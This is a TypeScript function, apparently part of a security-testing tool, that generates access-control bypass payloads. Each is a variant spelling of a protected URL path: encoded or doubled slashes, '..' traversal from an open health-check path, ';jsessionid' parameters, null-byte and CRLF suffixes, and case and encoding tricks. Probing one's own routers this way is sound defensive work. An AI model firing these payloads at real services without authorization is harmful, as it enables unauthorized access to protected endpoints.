/**
 * Spellings of a path that a router may still match although a check of its text does not, without duplicates.
 * `openPath` is a path that needs no credential, in a form such as `/health/live`.
 */
export function pathTricks(path: string, openPath: string): readonly string[] {
  const [, first, ...rest] = path.split('/') as [string, string, ...string[]];
  const tail = rest.join('/');
  const last = rest.at(-1)!;
  const parent = path.slice(0, -last.length - 1);
  const depth = openPath.split('/').length - 1;
  const upTo = (step: string) => `${openPath}${step.repeat(depth)}${path}`;
  const tricks = [
    path,
    // Slashes
    `${path}/`,
    `${path}//`,
    `/${path}`,
    `//${path}`,
    `/${first}//${tail}`,
    `${parent}//${last}`,
    `${parent}%2f${last}`,
    `${parent}%2F${last}`,
    `${parent}%252f${last}`,
    `${parent}\\${last}`,
    `${parent}%5c${last}`,
    // Dot segments
    `/./${first}/${tail}`,
    `${parent}/./${last}`,
    `${parent}/x/../${last}`,
    `${parent}/%2e/${last}`,
    `${parent}/x/%2e%2e/${last}`,
    upTo('/..'),
    upTo('/%2e%2e'),
    upTo('/..;'),
    `${openPath}/${'..%2f'.repeat(depth - 1)}..${path}`,
    `http://localhost${upTo('/..')}`,
    // Path parameters
    `${path};x`,
    `${path};jsessionid=1`,
    `/${first};x/${tail}`,
    `${path},x`,
    // Case and encoding
    path.toUpperCase(),
    `/${first.toUpperCase()}/${tail}`,
    `${parent}/${last[0]!.toUpperCase()}${last.slice(1)}`,
    `/${encoded(first)}/${tail}`,
    `${parent}/${encoded(last)}`,
    `/%E0%A4%A${path}`,
    // Appended characters
    `${path}%00`,
    `${path}%20`,
    `${path}%09`,
    `${path}%0d%0a`,
    `${path}.json`,
    `${path}.`,
    `${path}*`,
    // Query, fragment and absolute form
    `${path}?`,
    `${path}??`,
    `${path}?x=${openPath}`,
    `${path}#${openPath}`,
    `${path}%3f`,
    `${path}%23`,
    `http://localhost${path}`,
    `http://localhost/${path}`,
  ];
  return [...new Set(tricks)];
}

/** The segment with its first character percent-encoded. */
function encoded(segment: string): string {
  return `%${segment.charCodeAt(0).toString(16)}${segment.slice(1)}`;
}
